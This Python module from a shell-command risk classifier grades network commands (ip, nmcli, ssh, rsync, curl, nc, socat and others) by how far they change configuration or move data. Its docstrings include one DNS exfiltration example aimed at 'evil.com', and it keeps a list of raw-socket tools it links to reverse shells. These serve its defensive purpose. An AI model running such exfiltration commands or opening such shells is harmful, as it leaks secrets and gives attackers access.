"""Network configuration, remote access and data transfer.

Changing links, addresses, routes, DNS or Wi-Fi can cut the machine off: HIGH.
Sockets and remote shells (nc, socat, ssh) are HIGH, as are uploads and
downloads that write files; looking things up (``ip addr``, ``ping -c``,
``dig``) is read-only.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from anna_common.risk.rules.base import Code, Out, help_only
from anna_common.risk.rules.ipc import positionals
from anna_common.risk.writes import operands, options

if TYPE_CHECKING:
    from collections.abc import Callable

    from anna_common.shell.grammar import SimpleCommand

_IP_OBJECTS = ("address", "addrlabel", "link", "route", "rule", "neighbour", "neighbor", "ntable",
               "tunnel", "tuntap", "maddress", "mroute", "mrule", "monitor", "xfrm", "netns",
               "l2tp", "fou", "macsec", "tcp_metrics", "token", "netconf", "ila", "vrf", "sr",
               "nexthop", "mptcp", "ioam", "stats")
_IP_READ = ("show", "list", "lst", "ls", "get", "help", "showdump")


def _match_prefix(token: str, choices: tuple[str, ...]) -> str | None:
    """iproute2 accepts any prefix of an object or verb (``a`` → ``address``)."""
    for choice in choices:
        if choice.startswith(token):
            return choice
    return None


def ip(cmd: SimpleCommand, out: Out) -> None:
    """``ip addr``/``ip -br a``/``ip r get`` read; ``add``/``del``/``set``/``flush`` change."""
    words = [w.text for w in cmd.args if not w.text.startswith("-")]
    if not words or help_only(cmd):
        out.read_only()
        return
    obj = _match_prefix(words[0], _IP_OBJECTS)
    verb = words[1] if len(words) > 1 else "show"
    if obj is None:
        out.high(Code.NETWORK_CONFIG, "ip changes network configuration", system=True,
                 target="network")
        return
    if obj == "monitor" or _match_prefix(verb, _IP_READ) in ("show", "list", "lst", "ls", "get",
                                                             "help", "showdump"):
        out.read_only()
        return
    target = next((w for w in words[2:] if w not in ("dev", "set", "down", "up")), words[0])
    out.high(Code.NETWORK_CONFIG, f"ip {obj} {verb} changes network configuration",
             system=True, target=target)


_NMCLI_OBJECTS = ("general", "networking", "radio", "connection", "device", "monitor", "agent",
                  "help")


def _nmcli_reads(obj: str, words: list[str]) -> bool:
    verb = words[1] if len(words) > 1 else ""
    if obj in ("monitor", "help"):
        return True
    if obj == "general":
        # "nmcli general hostname NAME", "general logging level X", "general reload" change
        return len(words) <= 2 and (verb == "" or any(v.startswith(verb) for v in (
            "status", "hostname", "permissions", "logging")))
    if obj == "networking":
        return len(words) == 1 or (len(words) == 2 and "connectivity".startswith(verb))
    if obj == "radio":
        # "nmcli radio wifi" reads; "nmcli radio wifi off" changes
        return len(words) <= 2
    if obj == "connection":
        return verb == "" or "show".startswith(verb)
    if obj == "device":
        if verb == "wifi":
            return len(words) == 2 or words[2] == "list"
        return verb == "" or any(v.startswith(verb) for v in ("status", "show", "lldp"))
    return False


_NMCLI_VALUES = frozenset({"-f", "--fields", "-g", "--get-values", "-e", "--escape", "-c",
                           "--colors", "-w", "--wait", "-m", "--mode"})


def nmcli(cmd: SimpleCommand, out: Out) -> None:
    """nmcli status and show are read-only; connecting, editing or disabling is HIGH."""
    words = [w.text for w in positionals(cmd, _NMCLI_VALUES)]
    opts = options(cmd.args)
    if opts & {"-s", "--show-secrets"} or any(w == "show-password" for w in words):
        out.high(Code.SECRET_READ, "nmcli shows saved Wi-Fi and VPN secrets", system=True,
                 target="secrets")
        return
    if not words or help_only(cmd) or opts & {"-v", "--version", "-h", "--help"}:
        out.read_only()
        return
    obj = _match_prefix(words[0], _NMCLI_OBJECTS)
    if obj is not None and _nmcli_reads(obj, words):
        out.read_only()
        return
    out.high(Code.NETWORK_CONFIG, f"nmcli {' '.join(words[:2])} changes the network",
             system=True, target=words[-1] if len(words) > 1 else "network")


def resolvectl(cmd: SimpleCommand, out: Out) -> None:
    """resolvectl status/query read; dns/domain with values change resolvers."""
    words = [w.text for w in cmd.args if not w.text.startswith("-")]
    verb = words[0] if words else "status"
    if verb in ("status", "query", "service", "openpgp", "tlsa", "statistics", "monitor",
                "show-cache", "show-server-state") or (verb == "log-level" and len(words) == 1) or (
            verb in ("dns", "domain", "llmnr", "mdns", "dnssec", "dnsovertls", "nta",
                     "default-route") and len(words) <= 2):
        out.read_only()
    elif verb in ("flush-caches", "reset-statistics", "reset-server-features"):
        out.low(Code.SYSTEM_SETTING, f"resolvectl {verb} clears resolver state")
    else:
        out.high(Code.NETWORK_CONFIG, f"resolvectl {verb} changes DNS settings", system=True,
                 target="dns")


def wireless(cmd: SimpleCommand, out: Out) -> None:
    """iw/iwctl/rfkill/wpa_cli: listing is read-only; connecting or blocking is HIGH."""
    words = [w.text for w in cmd.args if not w.text.startswith("-")]
    prog = cmd.program or ""
    readers = {"list", "info", "link", "scan", "show", "get-networks", "station", "dump",
               "status", "devices", "get", "reg", "phy", "dev", "adapter", "device",
               "known-networks", "help", "version", "event"}
    writers = {"set", "connect", "disconnect", "forget", "block", "unblock", "del", "add",
               "interface", "ibss", "mesh", "remove_network", "select_network", "reassociate",
               "reconfigure", "power", "start", "stop", "leave", "join", "passphrase"}
    if not words or help_only(cmd) or (set(words) & readers and not set(words) & writers):
        out.read_only()
        return
    out.high(Code.NETWORK_CONFIG, f"{prog} changes wireless connectivity", system=True,
             target=words[-1])


def network_admin(cmd: SimpleCommand, out: Out) -> None:
    """ifconfig/route/ifup/ifdown/wg-quick/tc/ethtool/dhcpcd/netplan: HIGH unless listing."""
    prog = cmd.program or ""
    words = [w.text for w in cmd.args if not w.text.startswith("-")]
    if help_only(cmd) or (prog in ("ifconfig", "route", "arp") and len(words) <= 1 and
                          not options(cmd.args) & {"-d", "-s", "--delete", "--set"}) or (
            prog in ("wg", "tc", "bridge", "brctl") and (not words or words[0] in ("show",
                                                                                   "showconf",
                                                                                   "list"))) or (
            prog == "ethtool" and not options(cmd.args) & {"-s", "-K", "-G", "-A", "-C", "-E",
                                                           "-L", "-p", "-r", "-f", "-W",
                                                           "--change", "--features",
                                                           "--set-ring", "--reset"}):
        out.read_only()
        return
    out.high(Code.NETWORK_CONFIG, f"{prog} changes network configuration", system=True,
             target=words[-1] if words else prog)


def lookup(cmd: SimpleCommand, out: Out) -> None:
    """Name and reachability lookups read facts from the network.

    Data computed at run time in a lookup (``dig $(base64 < secret).evil.com``) or a chosen
    server and port (``whois -h host -p port DATA``) turns a lookup into a way to send data out.
    """
    if any(w.substituted or w.variables for w in cmd.args):
        out.high(Code.NETWORK_TRANSFER, f"{cmd.program} sends data computed at run time over "
                 "the network", target=cmd.program)
        return
    if cmd.program in ("whois", "finger") and (options(cmd.args) & {"-h", "-p", "--host",
                                                                       "--port"} or
                                                any("@" in w.text for w in cmd.args)):
        out.high(Code.NETWORK_TRANSFER, f"{cmd.program} talks to a server chosen in the command",
                 target=cmd.program)
        return
    if cmd.program in ("ping", "ping6") and options(cmd.args) & {"-f", "-s", "-p"}:
        out.medium(Code.NETWORK_TRANSFER, "ping with a flood, large packets or a data pattern")
        return
    out.read_only()


_REMOTE_SPEC = re.compile(r"^(?:rsync://|[\w.@-]+::?[^/]|[\w.-]+@[\w.-]+:)")


def rsync(cmd: SimpleCommand, out: Out) -> None:
    """rsync to or from another machine is a transfer; local copies are judged by destination."""
    for word in operands(cmd.args, frozenset({"-e", "--rsh", "--exclude", "--include",
                                              "--filter", "-f", "--rsync-path", "--files-from",
                                              "--backup-dir", "--log-file", "--chmod", "--chown",
                                              "--port", "--password-file"})):
        if _REMOTE_SPEC.match(word.text):
            out.high(Code.REMOTE_ACCESS, f"rsync transfers files to or from {word.text}",
                     target=word.text)
            return


def remote(cmd: SimpleCommand, out: Out) -> None:
    """ssh/scp/sftp/sshfs open remote shells or move files between machines."""
    prog = cmd.program or ""
    if help_only(cmd) or (prog == "ssh" and options(cmd.args) & {"-V", "-G"}):
        out.read_only()
        return
    if prog in ("ssh-keygen",):
        opts = options(cmd.args)
        if opts & {"-l", "-L", "-F", "-B", "-y"} and "-R" not in opts:
            out.read_only()
        else:
            out.medium(Code.SECRET_READ, "ssh-keygen creates or changes keys", target="key")
        return
    if prog in ("ssh-add", "ssh-copy-id"):
        out.high(Code.REMOTE_ACCESS, f"{prog} grants access with your keys", target=prog)
        return
    ops = operands(cmd.args, frozenset({"-p", "-P", "-i", "-l", "-o", "-F", "-J", "-L", "-R",
                                        "-D", "-b", "-c", "-e", "-m", "-O", "-Q", "-S", "-W",
                                        "-w", "-E", "-B", "-I"}))
    target = ops[0].text if ops else prog
    out.high(Code.REMOTE_ACCESS, f"{prog} connects to another machine ({target})",
             target=target)


_UPLOAD = frozenset({"-T", "--upload-file", "-F", "--form", "-d", "--data", "--data-binary",
                     "--data-raw", "--data-urlencode", "--json", "--post-file", "--body-file",
                     "--post-data", "--method", "-X", "--request"})


def transfer(cmd: SimpleCommand, out: Out) -> None:
    """curl/wget/aria2c/...: uploads and downloads to files are HIGH; fetching to stdout MEDIUM."""
    prog = cmd.program or ""
    if help_only(cmd):
        out.read_only()
        return
    opts = options(cmd.args)
    texts = {w.text for w in cmd.args}
    url = next((w.text for w in cmd.args if "://" in w.text), None)
    if url is not None and not url.lower().startswith(("http://", "https://", "ftp://",
                                                       "ftps://", "file://")):
        out.high(Code.NETWORK_TRANSFER, f"{prog} speaks an unusual protocol ({url[:40]})",
                 target=url)
        return
    if opts & _UPLOAD or any(t.startswith(("--upload-file=", "--post-file=", "--body-file="))
                             for t in texts):
        out.high(Code.NETWORK_TRANSFER, f"{prog} sends data to {url or 'a server'}",
                 target=url or prog)
        return
    writes_file = prog != "curl" or bool(opts & {"-o", "--output", "-O", "--remote-name",
                                                 "--remote-name-all", "-J"})
    if prog == "wget" and ("-O-" in texts or ("-O" in texts and "-" in texts) or
                           "--output-document=-" in texts or "-qO-" in texts):
        writes_file = False
    if prog in ("lynx", "links", "w3m", "elinks") and opts & {"-dump", "-source"}:
        writes_file = False
    if writes_file:
        out.high(Code.NETWORK_TRANSFER, f"{prog} downloads files from {url or 'the network'}",
                 target=url or prog)
    else:
        out.medium(Code.NETWORK_READ, f"{prog} fetches {url or 'data'} from the network")


def sockets(cmd: SimpleCommand, out: Out) -> None:
    """nc/ncat/socat/telnet/openssl s_client: raw sockets (reverse shells, exfiltration)."""
    prog = cmd.program or ""
    if help_only(cmd):
        out.read_only()
        return
    if prog == "openssl":
        sub = cmd.args[0].text if cmd.args else ""
        if sub not in ("s_client", "s_server", "s_time", "ocsp"):
            _openssl(cmd, out, sub)
            return
    out.high(Code.NETWORK_TRANSFER, f"{prog} opens raw network connections", target=prog)


def _openssl(cmd: SimpleCommand, out: Out, sub: str) -> None:
    if sub in ("version", "list", "x509", "verify", "ciphers", "dgst", "help") and \
            not options(cmd.args) & {"-out"}:
        out.read_only()
    else:
        out.low(Code.UNKNOWN_PROGRAM, f"openssl {sub} transforms data or keys")


NETWORK_RULES: dict[str, Callable[[SimpleCommand, Out], None]] = {
    "ip": ip,
    "rsync": rsync,
    "nmcli": nmcli,
    "resolvectl": resolvectl,
    **dict.fromkeys(("iw", "iwctl", "rfkill", "wpa_cli", "iwconfig", "connmanctl"), wireless),
    **dict.fromkeys(("ifconfig", "route", "arp", "ifup", "ifdown", "wg", "wg-quick", "tc",
                     "ethtool", "dhcpcd", "dhclient", "netplan", "brctl", "bridge", "nmtui",
                     "netctl", "networkctl", "iptunnel", "vconfig"), network_admin),
    **dict.fromkeys(("ping", "ping6", "dig", "host", "nslookup", "drill", "whois", "traceroute",
                     "tracepath", "mtr", "arping", "finger"), lookup),
    **dict.fromkeys(("ssh", "scp", "sftp", "sshfs", "ssh-keygen", "ssh-add", "ssh-copy-id",
                     "mosh", "autossh", "sshpass", "rsh", "rlogin", "rcp"), remote),
    **dict.fromkeys(("curl", "wget", "aria2c", "axel", "lwp-download", "lwp-request", "GET",
                     "POST", "http", "https", "xh", "lynx", "links", "w3m", "elinks", "fetch",
                     "tftp", "ftp", "lftp", "ncftp", "smbclient"), transfer),
    **dict.fromkeys(("nc", "ncat", "netcat", "socat", "telnet", "openssl", "cryptcat", "pwncat",
                     "nping", "hping3"), sockets),
}
"""Rules for network programs."""
